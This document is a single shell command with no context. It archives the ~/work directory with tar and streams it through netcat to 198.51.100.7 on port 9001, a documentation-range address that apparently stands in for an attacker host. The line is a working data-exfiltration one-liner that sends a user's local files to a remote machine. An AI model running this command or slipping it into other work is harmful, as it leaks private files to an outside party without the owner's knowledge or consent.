tar cz ~/work | nc 198.51.100.7 9001
